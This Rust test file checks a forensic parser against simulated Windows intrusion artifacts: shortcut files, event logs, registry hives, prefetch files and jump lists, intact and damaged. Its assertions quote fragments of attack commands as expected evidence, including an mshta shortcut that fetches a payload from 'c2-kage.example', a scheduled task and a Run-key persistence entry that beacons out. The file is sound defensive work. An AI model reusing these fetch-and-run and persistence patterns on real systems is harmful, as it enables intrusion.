use noroshi_base::NoticeCode;
use noroshi_intake::{Media, sniff};

use crate::Role;
use crate::emit::tests::{Heard, hear, torture};

/// A fixture, with how it was made beside it.
fn fixture(name: &str) -> Vec<u8> {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/windows").join(name);
    std::fs::read(path).expect("a fixture")
}

/// Texts of the fields that name the owner.
fn own<'a>(heard: &'a Heard, kind: &str) -> Vec<&'a str> {
    let path = format!("identity/{kind}");
    let is_own = |role: &Role| matches!(role, Role::Field(name) | Role::Property(name) if **name == *path);
    heard.passages.iter().filter(|p| is_own(&p.role)).map(|p| p.text.as_str()).collect()
}

#[test]
fn a_shortcut_tells_its_target_and_its_machine() {
    let bytes = fixture("invoice.lnk");
    assert_eq!(sniff("x", &bytes), Media::Lnk);
    let heard = hear("invoice.lnk", Media::Lnk, &bytes);
    assert_eq!(own(&heard, "host"), ["AEC-PC0231"]);
    let ids = own(&heard, "machine-id");
    for id in [
        "A1B2-C3D4",
        "9e687794-2010-11dd-975a-000c29655473",
        "00:0c:29:65:54:73",
        "S-1-5-21-1004336348-1177238915-682003330-1105",
    ] {
        assert!(ids.contains(&id), "{id} in {ids:?}");
    }
    let text = heard.all();
    for part in [
        "LocalPath: C:\\Users\\t.yamada\\AppData\\Local\\Temp\\invoice.js",
        "WorkingDir: C:\\Users\\t.yamada\\Documents",
        "Name: 請求書",
        "VolumeLabel: AOMI-DATA",
        "TargetCreated: 2026-01-06T01:30:00Z",
        "Item: mshta.exe",
    ] {
        assert!(text.contains(part), "{part} in {text}");
    }
    let command = Role::Field("lnk/CommandLine".into());
    assert_eq!(heard.role(&command).len(), 1);
    assert!(heard.role(&command)[0].ends_with("https://c2-kage.example/a.hta /tn KageTask"));
    assert_eq!(heard.children.len(), 1, "what lies behind the end is a child");
    assert!(heard.children[0].1.starts_with(b"var u='https://stage2"));
    assert!(heard.notices.is_empty(), "{:?}", heard.notices);
    torture("invoice.lnk", Media::Lnk, &bytes);
}

#[test]
fn a_broken_shortcut_still_tells_its_machine() {
    let bytes = fixture("invoice.lnk");
    let cut = hear("a.lnk", Media::Lnk, &bytes[..bytes.len() - 300]);
    assert!(cut.notices.iter().any(|notice| notice.code == NoticeCode::Malformed));
    let mut broken = bytes.clone();
    // An ID list longer than the file.
    broken[0x4C..0x4E].copy_from_slice(&[0xff, 0xff]);
    let heard = hear("a.lnk", Media::Lnk, &broken);
    assert_eq!(own(&heard, "host"), ["AEC-PC0231"]);
    assert!(heard.all().contains("https://c2-kage.example/a.hta"));
    assert!(heard.notices.iter().any(|notice| notice.code == NoticeCode::Malformed));
}

#[test]
fn every_record_of_a_log_is_read_with_its_time() {
    let bytes = fixture("security.evtx");
    assert_eq!(sniff("x", &bytes), Media::Evtx);
    let heard = hear("security.evtx", Media::Evtx, &bytes);
    assert!(heard.notices.is_empty(), "{:?}", heard.notices);
    assert_eq!(own(&heard, "host").iter().filter(|host| host.starts_with("AEC-DB01.")).count(), 6);
    assert!(own(&heard, "host").contains(&"EIGYO7"));
    assert!(own(&heard, "user").contains(&"t.yamada") && own(&heard, "user").contains(&"mio.kanda"));
    assert!(own(&heard, "domain").contains(&"AEC-AD"));
    assert!(own(&heard, "machine-id").iter().all(|id| id.starts_with("S-1-5-21-1004336348-")));
    let commands = heard.role(&Role::Field("event/CommandLine".into()));
    assert_eq!(commands.len(), 3);
    assert!(commands[2].contains("https://c2-kage.example/2.bin"), "{commands:?}");
    assert_eq!(heard.role(&Role::Field("event/ServiceName".into())), ["KageUpdater"]);
    assert_eq!(heard.role(&Role::Field("event/TaskName".into())), ["\\Microsoft\\KageTask"]);
    let logon = heard.passages.iter().find(|p| &*p.part == "record 1005").expect("the logon");
    assert!(logon.text.contains("IpAddress: 198.51.100.77\nLogonType: 10\n"), "{}", logon.text);
    assert_eq!(logon.hint.as_ref().unwrap().first_seen.as_deref(), Some("2026-01-07T01:30:00Z"));
    torture("security.evtx", Media::Evtx, &bytes);
}

#[test]
fn damaged_logs_give_what_is_left() {
    let bytes = fixture("security.evtx");
    let second = 4096 + 65_536;
    let mut broken = bytes.clone();
    broken[second..second + 8].copy_from_slice(b"XXXXXXXX");
    // The first record of the first chunk loses its size: its template goes with it only in part.
    broken[4096 + 512 + 4..4096 + 512 + 8].copy_from_slice(&[0xff; 4]);
    let heard = hear("a.evtx", Media::Evtx, &broken);
    let text = heard.all();
    for part in ["0.bin", "1.bin", "2.bin", "KageUpdater", "198.51.100.77", "KageTask"] {
        assert!(text.contains(part), "{part}");
    }
    assert_eq!(heard.notices.len(), 1);
    let name: Vec<u8> = "WorkstationName".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let end = memchr::memmem::find(&bytes, &name).expect("planted") + 60;
    let cut = hear("a.evtx", Media::Evtx, &bytes[..end]);
    assert!(cut.all().contains("KageUpdater") && cut.all().contains("WorkstationName"));
    assert_eq!(cut.notices.len(), 1);
}

#[test]
fn a_false_count_of_a_string_hides_no_arguments() {
    let bytes = fixture("invoice.lnk");
    let wide = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let folder = wide("C:\\Users\\t.yamada\\Documents");
    let at = memchr::memmem::find(&bytes, &folder).expect("planted") - 2;
    let mut padded = bytes[..at].to_vec();
    padded.extend_from_slice(&1693_u16.to_le_bytes());
    padded.extend_from_slice(&wide(&format!("{:<260}", "C:\\Users\\t.yamada\\Documents")));
    padded.extend_from_slice(&bytes[at + 2 + folder.len()..]);
    let heard = hear("a.lnk", Media::Lnk, &padded);
    assert!(heard.notices.is_empty(), "{:?}", heard.notices);
    let command = heard.role(&Role::Field("lnk/CommandLine".into()));
    assert!(command[0].ends_with("https://c2-kage.example/a.hta /tn KageTask"), "{command:?}");
}

#[test]
fn a_hive_tells_its_keys_values_and_what_was_deleted() {
    let bytes = fixture("software.hive");
    assert_eq!(sniff("x", &bytes), Media::Regf);
    let heard = hear("software.hive", Media::Regf, &bytes);
    assert!(heard.notices.is_empty(), "{:?}", heard.notices);
    let run = heard
        .passages
        .iter()
        .find(|p| &*p.part == "key HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run");
    let run = run.expect("the key");
    assert!(run.text.contains("KageUpdater: C:\\ProgramData\\kage\\k.exe -s https://c2-kage.example/beacon"));
    assert_eq!(run.hint.as_ref().unwrap().first_seen.as_deref(), Some("2026-01-06T01:30:00Z"));
    assert_eq!(
        heard.role(&Role::Field("registry/TargetObject".into())),
        ["HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\KageUpdater"]
    );
    assert_eq!(own(&heard, "user"), ["神田美緒"]);
    assert_eq!(own(&heard, "organisation"), ["蒼海電機株式会社"]);
    assert!(own(&heard, "machine-id").contains(&"0b5ad0c8-77aa-4a51-9d3c-5c61d2a0f7e1"));
    let text = heard.all();
    for part in [
        "UserAssist: C:\\PerfLogs\\dropper.exe",
        "https://config-kage.example/c",
        "198.51.100.77\n198.51.100.78",
        "Key: 設定\n(default): %TEMP%\\kage.dll",
        "http://deleted-kage.example/old",
    ] {
        assert!(text.contains(part), "{part} in {text}");
    }
    assert_eq!(heard.children.len(), 1, "a program of several cells");
    assert_eq!(heard.children[0].1.len(), 2 + 1000 + 13 * 2000);
    torture("software.hive", Media::Regf, &bytes);
}

#[test]
fn a_cut_or_looping_hive_ends() {
    let bytes = fixture("software.hive");
    let cut = hear("a", Media::Regf, &bytes[..8192]);
    assert!(cut.notices.iter().any(|notice| notice.code == NoticeCode::Malformed));
    // Every list of keys names the root.
    let root: [u8; 4] = bytes[36..40].try_into().unwrap();
    let mut looping = bytes.clone();
    for at in memchr::memmem::find_iter(&bytes, b"lf") {
        looping[at + 4..at + 8].copy_from_slice(&root);
    }
    assert!(
        hear("a", Media::Regf, &looping).notices.iter().any(|notice| notice.code == NoticeCode::Malformed)
    );
}

#[test]
fn prefetch_files_tell_what_ran_and_when() {
    for (name, program, times) in [("K.EXE-11223344.pf", "K.EXE", 3), ("K17.EXE-11223344.pf", "K17.EXE", 1)] {
        let bytes = fixture(name);
        assert_eq!(sniff("x", &bytes), Media::Prefetch);
        let heard = hear(name, Media::Prefetch, &bytes);
        assert!(heard.notices.is_empty(), "{:?}", heard.notices);
        let run = heard.passages.iter().find(|p| &*p.part == "execution").expect("the execution");
        assert!(run.text.starts_with(&format!("Executable: {program}\nRunCount: 12\n")), "{}", run.text);
        assert_eq!(run.text.matches("RunTime: ").count(), times);
        assert_eq!(run.hint.as_ref().unwrap().last_seen.as_deref(), Some("2026-01-07T07:30:00Z"));
        let path = heard.role(&Role::Field("prefetch/ImagePath".into()));
        assert_eq!(path, [format!("%SystemDrive%\\PERFLOGS\\{program}")]);
        assert!(own(&heard, "machine-id").contains(&"A1B2-C3D4"));
        let text = heard.all();
        for part in
            ["File: %SystemDrive%\\WINDOWS\\SYSTEM32\\NTDLL.DLL", "Folder: %SystemDrive%\\USERS\\MIO.KANDA"]
        {
            assert!(text.contains(part), "{part} in {text}");
        }
        torture(name, Media::Prefetch, &bytes);
        let cut = hear(name, Media::Prefetch, &bytes[..bytes.len() - 200]);
        assert!(cut.notices.iter().any(|notice| notice.code == NoticeCode::Malformed), "{name}");
    }
}

#[test]
fn a_jump_list_gives_its_shortcuts() {
    let link = fixture("invoice.lnk");
    let class = &link[4..20];
    let mut list = b"\x02\0\0\0\x01\0\0\0\0\0\0\0\0\0\0\0\x02\0\0\0".to_vec();
    for _ in 0..2 {
        list.extend_from_slice(class);
        list.extend_from_slice(&link);
    }
    list.extend_from_slice(b"\xAB\xFB\xBF\xBA");
    let media = sniff("5f7b5f1e01b83767.customDestinations-ms", &list);
    assert_eq!(media, Media::JumpList);
    let heard = hear("a", media, &list);
    assert!(heard.notices.is_empty(), "{:?}", heard.notices);
    let children: Vec<&[u8]> = heard.children.iter().map(|(_, data)| data.as_slice()).collect();
    assert_eq!(children, [&link[..], &link[..]]);
    torture("a", media, &list);
}
